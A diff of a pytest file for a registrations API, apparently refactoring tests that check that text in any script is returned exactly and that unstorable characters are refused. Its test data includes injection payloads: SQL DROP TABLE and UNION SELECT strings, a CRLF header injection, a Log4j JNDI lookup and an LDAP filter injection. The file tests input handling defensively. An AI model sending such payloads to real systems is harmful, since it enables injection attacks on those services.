@@ -1,4 +1,4 @@
-"""Text in any script comes back exactly; what PostgreSQL cannot hold is refused, wherever it stands."""
+"""Text of any script is returned exactly; text that PostgreSQL cannot store is refused in every field."""
 
 import json
 import re
@@ -49,7 +49,7 @@ TEXTS = {
     "tab": "a\tb",
     "soft hyphen": "soft\u00adhyphen",
     "zero width": "zero\u200bwidth",
-    # other languages' syntax
+    # syntax of other languages
     "sql": "'; DROP TABLE registrations; --",
     "sql comment": "1 OR 1=1 /* */ UNION SELECT * FROM users",
     "dollar quoting": "$$ BEGIN; $1 $tag$",
@@ -74,7 +74,7 @@ TEXTS = {
     "header": "a\r\nSet-Cookie: b=c",
     "log4j": "${jndi:ldap://x.example/a}",
     "ldap": "*)(uid=*))(|(uid=*",
-    # what looks like something else
+    # values of other types as text
     "null": "null",
     "undefined": "undefined",
     "true": "true",
@@ -84,12 +84,12 @@ TEXTS = {
     "uuid": "00000000-0000-0000-0000-000000000000",
     "very long": "long " * 999 + "end",
 }
-TURNING = re.compile(r"[\u202a-\u202e\u2066-\u2069]")
+BIDI_CONTROLS = re.compile(r"[\u202a-\u202e\u2066-\u2069]")
 
 
 @pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
-def test_text_comes_back_exactly(ana: Person, given: Given, text: str) -> None:
-    name = "" if TURNING.search(text) else text  # refused in names
+def test_any_text_is_returned_exactly_and_found(ana: Person, mia: Person, given: Given, text: str) -> None:
+    name = "" if BIDI_CONTROLS.search(text) else text  # refused in names
     short = f"<{name[:198]}>"
     fields: dict[str, Any] = {
         "endpoint_name": short,
@@ -103,26 +103,18 @@ def test_text_comes_back_exactly(ana: Person, given: Given, text: str) -> None:
     for found in (made, shown, listed):
         assert {name: found[name] for name in fields} == fields
 
+    words = " ".join(text[:200].split()[:3])
+    if words:
+        found_by_text = ana.get("/registrations", search=words).json["items"]
+        assert [item["registration_id"] for item in found_by_text] == [made["registration_id"]]
 
-@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
-def test_a_reason_comes_back_exactly(mia: Person, given: Given, text: str) -> None:
     reason = f"<{text[:1998]}>"
-    made = given.registration(status="Rejected", reason=reason)
-    assert made["status_reason"] == reason
+    assert mia.set_status(made, "Rejected", reason=reason).json["status_reason"] == reason
     history = mia.get(f"/registrations/{made['registration_id']}/history").json
     assert history["items"][0]["metadata"]["reason"] == reason
 
 
-@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
-def test_any_text_can_be_searched_for(ana: Person, given: Given, text: str) -> None:
-    made = given.registration(description=text)
-    words = text[:200].split()
-    if words:
-        found = ana.get("/registrations", search=" ".join(words[:3]))
-        assert [item["registration_id"] for item in found.json["items"]] == [made["registration_id"]]
-
-
-# ------------------------------------------------------------------------------------------- what cannot be stored
+# ------------------------------------------------------------------------------------------- unstorable text
 
 UNSTORABLE = {
     "nul": "\0",
@@ -151,7 +143,7 @@ def with_character(value: Any, character: str) -> Any:
 
 @pytest.mark.parametrize("character", UNSTORABLE.values(), ids=UNSTORABLE.keys())
 @pytest.mark.parametrize(("fields", "where"), PLACES.values(), ids=PLACES.keys())
-def test_what_cannot_be_stored_is_refused_anywhere_in_a_body(
+def test_unstorable_characters_are_refused_anywhere_in_a_body(
     ana: Person, given: Given, character: str, fields: Any, where: str
 ) -> None:
     sent = with_character(fields, character)
@@ -165,26 +157,22 @@ def test_what_cannot_be_stored_is_refused_anywhere_in_a_body(
 
 
 @pytest.mark.parametrize("character", UNSTORABLE.values(), ids=UNSTORABLE.keys())
-def test_what_cannot_be_stored_is_refused_in_a_reason(mia: Person, given: Given, character: str) -> None:
+def test_unstorable_characters_are_refused_in_other_bodies(mia: Person, given: Given, character: str) -> None:
     assert faults(mia.set_status(given.registration(), "Rejected", reason=character)).keys() == {"reason"}
-
-
-@pytest.mark.parametrize("character", UNSTORABLE.values(), ids=UNSTORABLE.keys())
-def test_what_cannot_be_stored_is_refused_in_a_user_body(ana: Person, character: str) -> None:
-    assert faults(ana.post("/users", {"display_name": character})).keys() == {"display_name"}
+    assert faults(mia.post("/users", {"display_name": character})).keys() == {"display_name"}
 
 
 @pytest.mark.parametrize(
     "name", ["search", "owner", "status", "submitter_id", "sort", "limit", "cursor", "other", "%00"]
 )
 @pytest.mark.parametrize("value", ["%00", "a%00b"])
-def test_a_nul_in_a_query_is_not_acceptable(ana: Person, name: str, value: str) -> None:
+def test_a_nul_in_a_query_is_refused(ana: Person, name: str, value: str) -> None:
     faults(ana.send("GET", f"/registrations?{name}={value}"))
 
 
 @pytest.mark.parametrize("raw", ["%ff", "%ed%a0%80", "%c0%80", "%e2%82", "a%fe"])
 @pytest.mark.parametrize("target", ["/registrations?search={}", "/registrations?{}=1", "/registrations/{}", "/{}"])
-def test_what_is_no_utf_8_cannot_be_read(ana: Person, raw: str, target: str) -> None:
+def test_invalid_utf_8_in_a_target_is_malformed(ana: Person, raw: str, target: str) -> None:
     refused(ana.send("GET", target.format(raw)), 400, "MALFORMED_REQUEST")
 
 
@@ -193,7 +181,7 @@ def test_a_nul_in_a_path_is_not_found(ana: Person, target: str) -> None:
     refused(ana.send("GET", target), 404, "NOT_FOUND")
 
 
-def test_an_escaped_pair_of_surrogates_is_one_character(ana: Person, given: Given) -> None:
+def test_an_escaped_surrogate_pair_is_one_character(ana: Person, given: Given) -> None:
     raw = json.dumps(given.body(description="😀")).encode()
     assert rb"\ud83d\ude00" in raw
     answer: Answer = ana.send("POST", "/registrations", {"Content-Type": "application/json"}, raw)
@@ -201,7 +189,7 @@ def test_an_escaped_pair_of_surrogates_is_one_character(ana: Person, given: Give
     assert "😀".encode() in answer.body
 
 
-def test_texts_are_stored_as_sent_not_normalised(given: Given, sql: Sql) -> None:
+def test_texts_are_stored_without_normalisation(given: Given, sql: Sql) -> None:
     given.registration(description="e\u0301")
     assert sql("SELECT description = U&'e\\0301' FROM registrations") == [(True,)]
 
